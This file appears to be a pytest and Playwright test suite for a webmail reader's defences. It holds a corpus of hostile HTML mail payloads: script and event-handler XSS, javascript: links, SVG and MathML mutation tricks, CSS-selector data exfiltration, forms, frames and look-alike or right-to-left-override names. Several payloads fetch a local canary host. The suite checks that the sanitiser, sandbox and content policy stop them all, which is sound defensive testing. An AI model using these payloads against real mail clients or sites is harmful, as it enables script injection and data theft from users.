"""Hostile mail on the page: it is shown, it runs nothing, and it asks nobody for anything."""

from __future__ import annotations

import email.message
import email.policy
import re
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler

import pytest
from playwright.sync_api import Page, Route, expect

from tests.http_server import HttpServer
from tests.journeys.browser import PHONE, Visit, Visits, message, row
from tests.journeys.mini_app import launched, made
from tests.journeys.running import ADMIN_PASSWORD, RunningService

pytest_plugins = ["tests.journeys.visiting", "tests.journeys.with_bot"]


class Canary:
    """A web server that mail would like to call. It writes down who did."""

    def __init__(self) -> None:
        self.calls: list[str] = []
        calls = self.calls

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                calls.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, format: str, *args: object) -> None:
                pass

        self._server = HttpServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    canary = Canary()
    yield canary
    canary.close()


# {0} is the canary; `hit()` stands for whatever a script would do first.
SCRIPT = "fetch('{0}/script');top.document.title='owned';top.postMessage('owned','*')"
CORPUS = {
    "script": "<script>" + SCRIPT + "</script>",
    "script of a file": "<script src='{0}/file.js'></script>",
    "handlers": '<img src=x onerror="' + SCRIPT + '"><body onload="' + SCRIPT + '">'
    '<details open ontoggle="' + SCRIPT + '"><input autofocus onfocus="' + SCRIPT + '">',
    "javascript link": '<a id=go href="javascript:' + SCRIPT + '">press</a>'
    '<a href="java\tscript:' + SCRIPT + '">press</a>',
    "data link": '<a href="data:text/html,<script>' + SCRIPT + '</script>">press</a>',
    "svg": '<svg onload="' + SCRIPT + '"><script>' + SCRIPT + "</script>"
    '<animate onbegin="' + SCRIPT + '" attributeName=x dur=1s><image href="{0}/svg.png"/>'
    '<use href="{0}/use.svg#x"/></svg>',
    "mathml mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;'
    "&lt;img src=1 onerror=" + SCRIPT + '&gt;">',
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=' + SCRIPT + '>">',
    "template": "<template><script>" + SCRIPT + "</script></template>"
    '<template shadowrootmode=open><img src="{0}/shadow.png"></template>',
    "base": '<base href="{0}/"><a href="below">press</a><img src="base.png">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url={0}/refresh">',
    "meta policy": '<meta http-equiv="Content-Security-Policy" content="img-src *">'
    '<img src="{0}/policy.png">',
    "link": '<link rel=stylesheet href="{0}/link.css"><link rel=prefetch href="{0}/prefetch">'
    '<link rel="dns-prefetch preconnect" href="{0}"><link rel=icon href="{0}/icon">',
    "form": '<form action="{0}/form" method=post><input name=a value=b><button id=go>Send</button>'
    '</form><button form=x formaction="{0}/formaction">Send</button>',
    "frames": '<iframe src="{0}/frame"></iframe><iframe srcdoc="<script>' + SCRIPT + '</script>">'
    '</iframe><object data="{0}/object"></object><embed src="{0}/embed"><frameset><frame '
    'src="{0}/frameset"></frameset>',
    "style element": "<style>@import '{0}/import.css';body{{background:url({0}/style.png)}}"
    "@font-face{{font-family:x;src:url({0}/font)}}p{{font-family:x}}"
    "a:has([href]){{background:url({0}/has)}}</style><p>text</p>",
    "style attribute": '<p style="background:url({0}/attr.png)">a</p>'
    "<p style=\"background:u\\rl('{0}/escaped.png')\">b</p>"
    '<p style="list-style:url({0}/list.png);cursor:url({0}/cursor),auto;content:url({0}/c)">c</p>'
    "<p style=\"background-image:image-set('{0}/set.png' 1x)\">d</p>",
    "overlay": '<div style="position:fixed;inset:0;z-index:99999;background:red">fake</div>',
    "pictures": '<img src="{0}/a.png"><img srcset="{0}/b.png 2x"><picture><source '
    'srcset="{0}/c.png"><img></picture><table background="{0}/d.png"><tr><td '
    'background="{0}/e.png">x</table><video src="{0}/f" poster="{0}/g.png" autoplay></video>'
    '<audio src="{0}/h" autoplay></audio><input type=image src="{0}/i.png"><img '
    'src="//{1}/j.png"><img lowsrc="{0}/k.png" dynsrc="{0}/l.png">',
    "ping": '<a id=go href="#x" ping="{0}/ping">press</a>',
    "window name": '<a id=go href="about:blank" target="_top">press</a>'
    '<a href="{0}/top" target="_parent">up</a>',
    "unfinished": '<img src="{0}/never?',
    "comment tricks": "<!--><script>" + SCRIPT + "</script>--><!--[if true]><script>" + SCRIPT + ""
    "</script><![endif]--><![CDATA[<script>" + SCRIPT + "</script>]]>",
    "stolen by style": "<style>input[value^=a]{{background:url({0}/starts-with-a)}}"
    "html:has(a[href*=token]){{background:url({0}/has)}}@media(width>1px){{@import '{0}/i.css'}}"
    "@font-face{{font-family:leak;src:url({0}/leak);unicode-range:U+0061}}*{{font-family:leak}}"
    "p::before{{content:url({0}/content)}}@supports(display:grid){{p{{mask:url({0}/mask)}}}}"
    "@layer x{{@import url({0}/layer.css)}}</style><p style='--x:url({0}/v);background:var(--x)'>aa"
    "</p><input value=abc><a href='https://x.example/?token=1'>a</a>",
    "svg in styles": '<svg><style>@import "{0}/svg-import.css";</style><foreignObject><img '
    'src="{0}/foreign.png"></foreignObject><a xlink:href="javascript:' + SCRIPT + '"><text>x</text>'
    '</a><set attributeName=href to="javascript:' + SCRIPT + '"/></svg>',
    "mathml link": '<math href="javascript:' + SCRIPT + '">CLICK</math><math><maction actiontype='
    '"statusline#{0}" xlink:href="javascript:' + SCRIPT + '">x</maction></math>',
    "nested forms": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror='"
    'fetch("{0}/nested")\'>',
    "bidi and look-alikes": '<a id=go href="https://xn--pple-43d.example/">https://apple.example/'
    '</a> \u202egnp.exe\u202c \u2066\u2067login\u2069 <a href="https://bank.example@{1}/">bank</a>'
    '<a href="http://{1}\u2044bank.example/">bank</a>',
    "crooked table": "<table>" + "<tr>" + "<td>x" * 60 + "</tr>" * 90,
    "deep": "<div>" * 3_000 + "deep" + "<b><i>" * 500,
    "end of the frame": "</body></html><script>" + SCRIPT + "</script>"
    '"></iframe><script>' + SCRIPT + "</script>&quot;&gt;&lt;/iframe&gt;",
}


def hostile(name: str, html: str, canary: Canary) -> bytes:
    body = html.format(canary.url, canary.url.removeprefix("http://"))
    return (
        'From: "<img src=x onerror=alert(1)>" <mallory@sender.example>\r\nTo: you@x.test\r\n'
        f"Subject: Attack by {name}\r\nMessage-ID: <{name.replace(' ', '.')}@sender.example>\r\n"
        "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        f"<p>Dear reader</p>{body}\r\n"
    ).encode()


def watch(person: Visit) -> None:
    """Note everything that a mail could make happen."""
    person.context.on("page", lambda page: person.complaints.append(f"opened {page.url}"))
    person.page.on("dialog", lambda dialog: person.complaints.append(f"asked {dialog.message}"))
    person.page.evaluate(
        "addEventListener('message', event => console.error('a frame spoke: ' + event.data))"
    )


def stopped(complaint: str) -> bool:
    """What the browser says when a policy or the sandbox did its work."""
    return any(
        words in complaint
        for words in ("Content Security Policy", "sandboxed", "Unsafe attempt", "Blocked script")
    )


def unharmed(person: Visit, canary: Canary) -> None:
    """Nothing ran, nothing was asked for, and the page is where it was."""
    assert canary.calls == []
    assert person.page.title() != "owned"
    assert person.page.url.startswith(person.service.url)
    assert [one for one in person.complaints if not stopped(one)] == []
    person.complaints.clear()


def attack(name: str) -> re.Pattern[str]:
    return re.compile(rf"Attack by {name}$")


@dataclass
class Reading:
    """A visitor with an empty mailbox, watched from the beginning."""

    person: Visit
    address: str
    canary: Canary

    @property
    def page(self) -> Page:
        return self.person.page

    def receive(self, name: str, html: str) -> None:
        self.person.service.deliver(self.address, hostile(name, html, self.canary))

    def open(self, name: str) -> None:
        self.page.get_by_role("link", name=attack(name)).click()
        expect(self.page.locator("#mail-subject")).to_have_text(f"Attack by {name}")


@pytest.fixture
def reading(visit: Visits, service: RunningService, canary: Canary) -> Iterator[Reading]:
    """At the end nothing has run and nothing was asked for."""
    person = visit()
    address = person.address()
    person.settled()
    watch(person)
    yield Reading(person, address, canary)
    unharmed(person, canary)


def press_everything(page: Page) -> None:
    """Press whatever in the frame looks as if it would do something."""
    press = page.frame_locator("iframe").locator("#go, a[href^='javascript'], form button")
    for at in range(press.count()):
        press.nth(at).click(timeout=2_000, no_wait_after=True)


def drawn(page: Page) -> None:
    """Whatever a document asks for at once, it has asked for when two frames were drawn."""
    page.locator("iframe").wait_for()
    page.evaluate("new Promise(done => requestAnimationFrame(() => setTimeout(done, 50)))")
    assert "allow-scripts" not in (page.locator("iframe").get_attribute("sandbox") or "")


def past_the_sanitiser(page: Page, canary: Canary, route: str) -> None:
    """Put the corpus into the page's answers as it came."""

    def unsanitised(route: Route) -> None:
        answer = route.fetch()
        mail = answer.json()
        name = str(mail["subject"]).removeprefix("Attack by ")
        own_host = canary.url.removeprefix("http://")
        mail["html"] = "<p>Dear reader</p>" + CORPUS[name].format(canary.url, own_host)
        route.fulfill(response=answer, json=mail)

    page.route(re.compile(route), unsanitised)


def test_nothing_of_the_corpus_runs_or_asks_for_anything(reading: Reading) -> None:
    """Hazards 32 and 33: script, handlers, links, SVG, MathML, base, refresh, forms, CSS."""
    for name, html in CORPUS.items():
        reading.receive(name, html)
    page = reading.page
    expect(page.locator(".row")).to_have_count(len(CORPUS))
    for name in CORPUS:
        reading.open(name)
        inside = page.frame_locator("iframe").locator("body")
        expect(inside).to_contain_text("Dear reader")
        press_everything(page)


def test_the_frame_alone_stops_what_a_sanitiser_might_miss(reading: Reading) -> None:
    """Hazard 32: the corpus as it came, put into the frame past the service's sanitiser."""
    for name in CORPUS:
        reading.receive(name, "")
    page = reading.page
    expect(page.locator(".row")).to_have_count(len(CORPUS))
    past_the_sanitiser(page, reading.canary, r"/api/inbox/\d+")
    for name in CORPUS:
        reading.open(name)
        drawn(page)
    reading.person.requests.clear()  # attempts that the policy ended are among them


@pytest.mark.parametrize("sanitised", [True, False])
def test_nothing_of_the_corpus_runs_in_the_mini_app(
    visit: Visits, with_bot: RunningService, canary: Canary, sanitised: bool
) -> None:
    """Hazards 32 and 33, for the reader that Telegram opens."""
    address, token = made(with_bot, person=70)
    person = visit(size=PHONE, at=with_bot, path=launched(person=70))
    page = person.page
    expect(page.get_by_role("button", name=address, exact=True)).to_be_visible()
    person.context.on("page", lambda page: person.complaints.append(f"opened {page.url}"))
    page.on("dialog", lambda dialog: person.complaints.append(f"asked {dialog.message}"))
    page.add_init_script(
        "addEventListener('message', event => console.error('a frame spoke: ' + event.data))"
    )
    if not sanitised:
        past_the_sanitiser(page, canary, "/telegram/open_mail$")
    last = 0
    for name, html in CORPUS.items():
        with_bot.deliver(address, hostile(name, html if sanitised else "", canary))
        last = int(with_bot.wait_for_mail(token, after_id=last)["id"])
        page.goto(with_bot.url + f"/telegram_mail?mail_id={last}")
        expect(page.get_by_role("heading", name=attack(name))).to_be_visible()
        drawn(page)
        if sanitised:
            inside = page.frame_locator("iframe").locator("body")
            expect(inside).to_contain_text("Dear reader")
            press_everything(page)
    unharmed(person, canary)
    if not sanitised:
        person.requests.clear()


def test_an_answer_quotes_words_and_nothing_that_acts(reading: Reading) -> None:
    """Hazard 32: the quote of a reply, as text and in a formatted letter."""
    page = reading.page
    # One letter with everything; and it also looks like markup after it was made text.
    html = "".join(CORPUS.values()) + "&lt;img src=x onerror=alert(1)&gt;"
    reading.receive("everything", html)
    reading.open("everything")
    page.get_by_role("toolbar", name="Message").get_by_role("button", name="Reply").click()
    quoted = page.locator(".quoted")
    expect(quoted).to_contain_text("Dear reader")
    assert quoted.locator("*").count() == 0
    page.get_by_role("button", name="With formatting").click()
    page.get_by_role("button", name="Edit the quote").click()
    letter = page.get_by_role("textbox", name="Message text")
    expect(letter).to_contain_text("Dear reader")
    # Only what a letter of ours is made of.
    strange = "script, style, img, svg, math, iframe, form, input, [onerror], [style], [src]"
    assert letter.locator(strange).count() == 0


def test_a_preview_of_typed_html_runs_nothing(reading: Reading) -> None:
    """Hazard 32: what somebody pastes as HTML is previewed inside the same walls."""
    page, canary = reading.page, reading.canary
    page.keyboard.press("c")
    page.get_by_role("button", name="HTML source").click()
    source = page.get_by_role("textbox", name="HTML source")
    for html in CORPUS.values():
        own = html.format(canary.url, canary.url.removeprefix("http://"))
        source.fill("<p>Dear reader</p>" + own)
        page.get_by_role("button", name="Preview").click()
        drawn(page)
        # Escape first of all leaves what a letter may have put over the page; it cannot.
        page.keyboard.press("Escape")
        expect(page.get_by_role("dialog")).to_have_count(0)
    # Back to formatting, only what a letter of ours is made of is left.
    source.fill("<p>Dear <b>reader</b></p>" + CORPUS["handlers"] + CORPUS["pictures"])
    page.get_by_role("button", name="With formatting").click()
    letter = page.get_by_role("textbox", name="Message text")
    expect(letter.locator("b")).to_have_text("reader")
    strange = "script, style, img, svg, video, audio, iframe, input, [onerror], [style], [src]"
    assert letter.locator(strange).count() == 0
    reading.person.requests.clear()


# A sample of each way in; the walls are those of the reader, which has them all.
WORST = ("handlers", "svg", "mathml mutation", "frames", "pictures", "end of the frame")


@pytest.mark.parametrize("sanitised", [True, False])
def test_nothing_of_a_hostile_mail_runs_for_an_administrator(
    visit: Visits, service: RunningService, canary: Canary, sanitised: bool
) -> None:
    """Hazards 32 and 33, for whoever looks into the mail of others: read, and as its source."""
    address, token = service.open_address()
    html = {name: CORPUS[name] for name in WORST} | {"handlers": "".join(CORPUS.values())}
    ids: dict[str, int] = {}
    for name, body in html.items():
        service.deliver(address, hostile(name, body if sanitised else "", canary))
        ids[name] = service.wait_for_mail(token, after_id=max(ids.values(), default=0))["id"]
    person = visit(path="/admin")
    watch(person)
    page = person.page
    if not sanitised:
        past_the_sanitiser(page, canary, r"/admin/inbox/\d+")
    page.get_by_label("Admin password").fill(ADMIN_PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("heading", name="Overview")).to_be_visible()
    person.complaints.clear()
    for name in WORST:
        page.goto(f"{service.url}/admin#/mails/{address}/{ids[name]}")
        dialog = page.get_by_role("dialog", name=attack(name))
        expect(dialog).to_be_visible()
        drawn(page)
        if sanitised:
            expect(page.frame_locator("iframe").locator("body")).to_contain_text("Dear reader")
            press_everything(page)
        page.keyboard.press("Escape")
        expect(page.get_by_role("dialog")).to_have_count(0)
    unharmed(person, canary)
    if not sanitised:
        person.requests.clear()
        return
    page.get_by_role("link", name=attack("handlers")).click()
    page.get_by_role("button", name="Headers and raw source").click()
    source = page.get_by_role("dialog", name="Headers and raw source")
    source.get_by_role("button", name="Raw source", exact=True).click()
    expect(source.locator("pre")).to_contain_text("Dear reader")
    assert source.locator("pre *").count() == 0
    unharmed(person, canary)


def answers(page: Page) -> None:
    """The page hears a key and shows what it is for."""
    page.keyboard.press("?")
    expect(page.get_by_role("dialog", name="Keyboard")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog")).to_have_count(0)


CELL = (
    "<td style='color:red'><b>one cell of very many</b> of a table that is wide and long, and so on"
)


@pytest.mark.parametrize("sanitised", [True, False])
def test_ten_megabytes_of_html_freeze_nothing(
    visit: Visits, service: RunningService, sanitised: bool
) -> None:
    """Hazard 28: the list, the keys and the next mail go on working while such a mail is open;
    also when all of its hundred thousand cells come into the frame."""
    person = visit()
    address = person.address()
    person.settled()
    page = person.page
    table = "<table>" + ("<tr>" + CELL * 20) * 5_000 + "</table>"
    assert len(table) > 9_000_000
    huge = {"table": table}
    if sanitised:
        huge["words"] = "<p>" + "word " * 2_000_000
    for name, html in huge.items():
        service.deliver(address, big(name, html if sanitised else "<p>small"))
    service.deliver(address, message("A small one", "Quick to read."))

    def whole(route: Route) -> None:
        answer = route.fetch()
        mail = answer.json()
        name = str(mail["subject"]).removeprefix("Large ")
        route.fulfill(response=answer, json={**mail, "html": huge.get(name, "")})

    if not sanitised:
        page.route(re.compile(r"/api/inbox/\d+"), whole)
    for name in huge:
        page.get_by_role("link", name=f"Large {name}").click()
        expect(page.locator("#mail-subject")).to_have_text(f"Large {name}", timeout=60_000)
        answers(page)
        if not sanitised and name == "table":
            cells = page.frame_locator("iframe").locator("td")
            expect(cells).to_have_count(100_000, timeout=60_000)
            answers(page)
        page.keyboard.press("j")
        page.get_by_role("link", name="A small one").click()
        expect(page.locator("#mail-subject")).to_have_text("A small one", timeout=60_000)
        expect(page.locator(".text")).to_contain_text("Quick to read.")
    assert person.sideways() <= 0


def big(name: str, html: str) -> bytes:
    lines = "\r\n".join(html[at : at + 900] for at in range(0, len(html), 900))
    return (
        f"From: m@sender.example\r\nTo: you@x.test\r\nSubject: Large {name}\r\n"
        "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + lines + "\r\n"
    ).encode()


def test_names_that_turn_round_are_told_as_they_are(reading: Reading) -> None:
    """Hazard 30: direction marks and look-alikes hide neither the ending of a file nor a host."""
    page = reading.page
    letter = email.message.EmailMessage(policy=email.policy.SMTP)
    letter["From"] = "m@sender.example"
    letter["Subject"] = "Confirm your account"
    letter.set_content("Confirm: https://xn--pple-43d.example/confirm?token=abcdef123456")
    letter.add_attachment(b"MZ", maintype="application", subtype="x", filename="inv\u202efdp.exe")
    reading.person.service.deliver(reading.address, letter.as_bytes())
    act = row(page, "Confirm your account").locator("a.act")
    expect(act).to_have_attribute("title", "Opens xn--pple-43d.example in a new tab")
    page.get_by_role("link", name="Confirm your account").click()
    with page.expect_download() as file:
        page.locator(".fname").click()
    assert file.value.suggested_filename.endswith("fdp.exe")
    assert "\u202e" not in file.value.suggested_filename


def test_shown_pictures_are_fetched_and_nothing_else(reading: Reading) -> None:
    """Hazard 33: what the reader asked for, from then on, and no script even so."""
    person, page, canary = reading.person, reading.page, reading.canary
    html = '<img src="{0}/asked.png" width=10 height=10>' + CORPUS["script"] + CORPUS["frames"]
    reading.receive("picture", html)
    reading.open("picture")
    expect(page.get_by_text("1 remote image blocked.")).to_be_visible()
    assert canary.calls == []
    with page.expect_request(f"{canary.url}/asked.png") as request:
        page.get_by_role("button", name="Show images").click()
    assert request.value.headers.get("referer", "") == ""
    expect(page.frame_locator("iframe").locator("img")).to_be_visible()
    page.reload()
    expect(page.get_by_text("1 remote image blocked.")).to_be_visible()
    assert set(canary.calls) == {"/asked.png"}
    assert person.foreign_requests == [f"{canary.url}/asked.png"]
    person.requests.clear()
    canary.calls.clear()


def test_headers_and_replies_are_shown_as_text(reading: Reading) -> None:
    """Hazard 34: names, subjects, addresses and header fields never become markup."""
    page, address = reading.page, reading.address
    tag = "<img src=x onerror=alert(1)>"
    reading.person.service.deliver(
        address,
        (
            f'From: "{tag}" <mallory@sender.example>\r\nTo: {address}\r\nSubject: {tag}\r\n'
            f'Reply-To: "{tag}" <m@sender.example>\r\nX-Odd: {tag}\r\nCc: "{tag}" <c@x.test>\r\n'
            f"Message-ID: <tag@sender.example>\r\n\r\n{tag} javascript:alert(1)\r\n"
        ).encode(),
    )
    page.get_by_role("link", name=tag).click()
    expect(page.locator("#mail-subject")).to_have_text(tag)
    expect(page.locator(".who .name")).to_have_text(tag)
    expect(page.locator(".text")).to_contain_text(tag)
    page.get_by_role("button", name="details").click()
    page.get_by_role("toolbar", name="Message").get_by_role("button", name="Raw").click()
    expect(page.get_by_role("dialog")).to_contain_text(f"X-Odd{tag}")
    page.get_by_role("button", name="Raw source").click()
    expect(page.get_by_role("dialog")).to_contain_text(f"X-Odd: {tag}")
    assert page.locator("img").count() == 0
    assert page.locator("a[href^='javascript']").count() == 0


def test_links_that_are_no_web_addresses_are_never_acts(reading: Reading) -> None:
    """Hazard 32: a confirmation link is offered only when it leads to a web page."""
    page = reading.page
    html = "<p>Please <a href=\"javascript:alert('x')\">Confirm your e-mail address</a></p>"
    reading.person.service.deliver(
        reading.address,
        (
            "From: m@sender.example\r\nTo: you@x.test\r\nSubject: Confirm your account\r\n"
            "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + html
        ).encode(),
    )
    expect(row(page, "Confirm your account")).to_be_visible()
    assert page.locator("a[href^='javascript']").count() == 0


def test_the_page_itself_forbids_inline_scripts_and_framing(service: RunningService) -> None:
    """Hazard 32: the outermost wall."""
    answer = service.get("/")
    policy = answer.headers["Content-Security-Policy"]
    scripts = re.search("script-src ([^;]*);", policy)
    assert scripts is not None
    # Its own files, and the one script that the document holds, known by its hash.
    assert re.fullmatch(r"'self' 'sha256-[A-Za-z0-9+/]{43}='", scripts[1])
    assert "default-src 'none'" in policy
    assert "frame-ancestors 'none'" in policy
    assert "unsafe-eval" not in policy
    assert answer.text.count("<script>") == 1
